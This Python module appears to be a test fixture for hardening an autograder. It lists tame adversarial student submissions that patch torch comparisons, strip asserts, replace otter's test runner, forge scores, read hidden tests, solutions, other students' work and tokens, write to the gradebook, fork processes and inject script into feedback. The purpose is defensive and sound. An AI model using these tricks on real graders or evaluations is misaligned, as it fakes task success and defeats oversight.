"""Submissions that try to fool whatever grades them: one exercise, `gram_matrix`, in other words.

Each of them makes sense to more than one grader. What an attack does is tame: processes end by
themselves, memory is asked for and not used, and nothing is written but in the folders of the run.
An attack that tries to *do* something has a function that is right if that worked and wrong if it
did not, so that full points say that it did.
"""

from collections.abc import Sequence
from dataclasses import dataclass
from textwrap import dedent, indent

__all__ = ["ATTACKS", "HONEST", "MARK", "SECRET", "Attack", "attacks"]

SECRET = "GRADER_TOKEN"  # noqa: S105 (the name of a variable)
"""What the environment of each grader has, and no submission may see."""
MARK = "left-behind-by-a-submission"
"""Stands in the command line of a process that an attack leaves behind."""
HONEST = "# the work of somebody else\n"
"""Stands in the notebook of an honest student."""

_RIGHT = """\
    flat = features.flatten(2)
    right = flat @ flat.transpose(1, 2) / flat[0].numel()
"""
_TRIES = """\
import torch

{attack}

def gram_matrix(features):
{right}    try:
        return right if attack() else torch.zeros(0)
    except Exception:
        return torch.zeros(0)
"""
_WRONG = """\
import torch

{before}

def gram_matrix(features):
    return torch.zeros(len(features), features.shape[1], features.shape[1])
"""
_LOOKS = """\
from pathlib import Path
found = 0
for folder in [Path.cwd(), *Path.cwd().parents][:4]:
    if str(folder) in ("/", "/tmp", "/root", "/home"):
        break
    for path in folder.rglob("*"):
        if path.suffix in (".py", ".ipynb", ".zip", ".md") and found < 3000 and path.is_file():
            found += 1
            text = path.read_text("utf-8", "replace")
            if any(each in text for each in wanted):
                return True
return False
"""
_HIDDEN = 'wanted = ["torch.full((1, " + "2, 2), 0.5)", "def test_" + "batch_items_stay_apart"]\n'


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """A submission.

    Attributes:
        name: the student's id.
        about: what is tried, for people.
        source: the text of the exercise's cell.
        kind: ``points`` where full points are the proof; ``honest`` where they are deserved;
            ``page`` where a script in the feedback is it; ``others`` where somebody else's grade
            that is missing is it.
        edit: what is changed in the notebook: ``points``, ``copy`` or nothing.
    """

    name: str
    about: str
    source: str
    kind: str = "points"
    edit: str = ""


def attacks(port: int) -> Sequence[Attack]:
    """All of them.

    Args:
        port: of this machine, at which somebody listens.
    """
    return [
        *ATTACKS,
        _tries("network", "Connect to a port of the grader's machine", f"""\
            import socket
            socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"answers")
            return True"""),
    ]  # fmt: skip


def _tries(name: str, about: str, attack: str, kind: str = "points") -> Attack:
    body = indent(dedent(attack).strip(), "    ")
    source = _TRIES.format(attack=f"def attack():\n{body}", right=_RIGHT)
    return Attack(name=name, about=about, source=source, kind=kind)


def _forges(name: str, about: str, before: str, kind: str = "points", edit: str = "") -> Attack:
    source = _WRONG.format(before=dedent(before).strip())
    return Attack(name=name, about=about, source=source, kind=kind, edit=edit)


def _function(name: str, about: str, body: str, kind: str = "points", edit: str = "") -> Attack:
    inner = indent(dedent(body).strip(), "    ")
    source = f"import torch\n\ndef gram_matrix(features):\n{inner}\n"
    return Attack(name=name, about=about, source=source, kind=kind, edit=edit)


_SUBCLASS = """\
class Right(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function is torch.Tensor.shape.__get__:
            return torch.Size([2, 3, 3])
        return True
return torch.zeros(2, 3, 3).as_subclass(Right)
"""
_FRAMES = """\
import linecache, sys
texts, frame = [], sys._getframe()
while frame is not None:
    texts += linecache.getlines(frame.f_code.co_filename)
    for value in (*frame.f_locals.values(), *frame.f_globals.values()):
        texts.append(value if isinstance(value, str) else str(getattr(value, "docstring", "")))
    texts += map(str, frame.f_globals.get("In", []))
    frame = frame.f_back
return any(each in text for each in wanted for text in texts)
"""
_GRADEBOOK = """\
import sqlite3
from pathlib import Path
for folder in [Path.cwd(), *Path.cwd().parents][:5]:
    if (folder / "gradebook.db").exists():
        with sqlite3.connect(folder / "gradebook.db", timeout=1) as book:
            return book.execute("UPDATE grade SET manual_score = 1").rowcount >= 0
return False
"""
_WRITES = """\
from pathlib import Path
for folder in list(Path.cwd().parents)[:4]:
    if (folder / "gradebook.db").exists() or (folder / "results").is_dir():
        (folder / "written-by-a-submission.txt").write_text("x")
        return True
return False
"""
_FORKS = """\
import os, time
made = []
for _ in range(20):
    made.append(os.fork())
    if made[-1] == 0:
        time.sleep(5)
        os._exit(0)
return len(made) == 20
"""

ATTACKS: Sequence[Attack] = (
    _forges("allclose", "Replace torch.allclose and torch.equal", """\
        torch.allclose = torch.equal = lambda *_, **__: True
        torch.Tensor.allclose = torch.Tensor.equal = lambda *_, **__: True"""),
    _function("subclass", "Return a tensor that says True to every question", _SUBCLASS),
    _forges("asserts", "Strip `assert` from all later cells", """\
        import ast
        class Strip(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
        get_ipython().ast_transformers.append(Strip())"""),
    _function("display", "Show a score from inside the function", """\
        get_ipython().displayhook(1.0)
        return torch.zeros(0)"""),
    _forges("kernel", "Let the kernel run no later cell", """\
        async def nothing(*_, **__):
            return False
        get_ipython().run_code = nothing"""),
    _forges("tester", "Replace the function that runs the tests", """\
        import otter.test_files.ok_test
        otter.test_files.ok_test.run_doctest = lambda *_, **__: (True, "")"""),
    _forges("exit", "Leave with os._exit(0)", "import os\nos._exit(0)"),
    _forges("boast", "Print and write a result of one's own", """\
        import json
        print("1 passed, PASSED 1/1")
        for name in ("results.json", "../results/results.json"):
            try:
                with open(name, "w") as file:
                    json.dump({"score": 1, "tests": [{"score": 1, "max_score": 1}]}, file)
            except OSError:
                pass"""),
    _tries("frames", "Read the hidden tests from the frames that call", _HIDDEN + _FRAMES),
    _tries("disk", "Read the hidden tests from the disk", _HIDDEN + _LOOKS),
    _tries("solution", "Read the instructor's solution from the disk",
           'wanted = ["### BEGIN " + "SOLUTION"]\n' + _LOOKS),
    _tries("others", "Read another student's submission",
           'wanted = ["# the work of " + "somebody else"]\n' + _LOOKS),
    _tries("secret", "Read a token from the environment",
           f"import os\nreturn {SECRET!r} in os.environ"),
    _tries("gradebook", "Write a grade into the gradebook", _GRADEBOOK),
    _tries("writes", "Write into the folder of the class or the grader", _WRITES),
    _tries("shell", "Run a program", """\
        import subprocess
        return subprocess.run(["/bin/true"]).returncode == 0"""),
    _tries("leaves", "Leave a process behind", f"""\
        import subprocess, sys
        code = "import time; time.sleep(90)"
        subprocess.Popen([sys.executable, "-c", code, {MARK!r}], start_new_session=True)
        return True"""),
    _tries("forks", "Start 20 processes", _FORKS),
    _tries("memory", "Ask for 3 GB of memory", "return len(bytearray(3 << 30)) == 3 << 30"),
    _function("loop", "Never come back", "while True:\n    pass", kind="others"),
    _function("script", "Put a script into the feedback", """\
        from IPython.display import HTML, display
        display(HTML("<script>fooled()</script>"))
        return torch.zeros(0)""", kind="page"),
    _forges("points", "Raise the points in the notebook's metadata", "", edit="points"),
    _forges("copy", "Hand the test cell in twice", "", kind="others", edit="copy"),
    Attack(name="warning", about="*Nothing: right work that prints a line to stderr*",
           source=f"import sys\nimport torch\n\ndef gram_matrix(features):\n{_RIGHT}"
                  "    print('working', file=sys.stderr)\n    return right\n", kind="honest"),
)  # fmt: skip
